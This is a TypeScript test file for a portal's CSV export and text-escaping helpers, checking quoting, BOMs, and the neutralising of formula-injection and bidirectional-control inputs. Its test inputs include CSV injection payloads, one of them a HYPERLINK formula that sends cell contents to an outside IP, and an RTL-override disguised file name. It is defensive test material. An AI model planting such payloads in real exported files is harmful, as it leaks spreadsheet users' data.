import assert from 'node:assert/strict'
import { Readable } from 'node:stream'
import { text as textOf } from 'node:stream/consumers'
import { csvFile, csvOf, csvText } from '../../portal/csv.ts'
import { visible } from '../../portal/presenters/visible.ts'

interface Row {
  readonly who: string
  readonly why: string
}

const COLUMNS = [
  { heading: 'Who', value: ({ who }: Row) => who },
  { heading: 'Why (UTC +1)', value: ({ why }: Row) => why },
]

function csv(rows: readonly Row[], head?: string[][]): Promise<string> {
  return textOf(csvFile(head)(Readable.from(rows).pipe(csvOf<Row>(COLUMNS))))
}

describe('a CSV file', () => {
  it('quotes every cell, doubles quotes, ends lines as RFC 4180 says, and says it is UTF-8', async () => {
    const rows = [
      { who: 'mark', why: 'he said "go", twice' },
      { who: 'Zoë; 日本', why: '' },
    ]
    assert.equal(
      await csv(rows),
      '\ufeff"Who","Why (UTC +1)"\r\n"mark","he said ""go"", twice"\r\n"Zoë; 日本",""\r\n',
    )
  })

  it('has its heading also when there is no record', async () => {
    assert.equal(await csv([]), '\ufeff"Who","Why (UTC +1)"\r\n')
  })

  it('says what it is above its heading where that is asked for, as text', async () => {
    assert.equal(
      await csv([], [['Records of mark'], ['Filters', '=1+1']]),
      `\ufeff"Records of mark"\r\n"Filters","'=1+1"\r\n\r\n"Who","Why (UTC +1)"\r\n`,
    )
  })

  for (const text of [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    ' =1',
    '\u200b=1',
    '\u00a0@x',
    `=HYPERLINK("http://192.0.2.1/?"&A1,"open")`,
    '--',
    '=',
    '\ttext',
  ]) {
    it(`makes ${JSON.stringify(text)} a text`, async () => {
      assert.ok(csvText(text).startsWith("'"))
      const [, line] = (await csv([{ who: text, why: '' }])).split('\r\n')
      assert.ok(line?.startsWith(`"'`), line)
    })
  }

  for (const text of [
    'mark',
    '1-1',
    'a=b',
    'x@example.com',
    '-',
    '',
    "it's",
    '2026-11-23 11:00:00',
  ]) {
    it(`leaves ${JSON.stringify(text)} alone`, () => assert.equal(csvText(text), text))
  }

  it('keeps a record on one line, and shows what would hide or turn it round', async () => {
    const file = await csv([{ who: 'a\r\n"b",c', why: '\u202egnp.exe\u0000\u0007\u200b' }])
    assert.equal(file.split('\r\n')[1], '"a\\r\\n""b"",c","\\u202egnp.exe\\u0000\\u0007\\u200b"')
  })
})

describe('visible text', () => {
  for (const [text, expected] of [
    ['plain, Zoë, 日本, 🙂', 'plain, Zoë, 日本, 🙂'],
    ['a\nb\tc\r', 'a\\nb\\tc\\r'],
    ['\u001b[31mred', '\\u001b[31mred'],
    ['admin\u202e\u2066x\u2069', 'admin\\u202e\\u2066x\\u2069'],
    [
      '\u200f\u061c\ufeff\u00ad\u2028\u0085\u007f',
      '\\u200f\\u061c\\ufeff\\u00ad\\u2028\\u0085\\u007f',
    ],
    ['\u{e0041}', '\\u{e0041}'],
  ] as const) {
    it(`shows ${JSON.stringify(text)} as ${expected}`, () => assert.equal(visible(text), expected))
  }
})
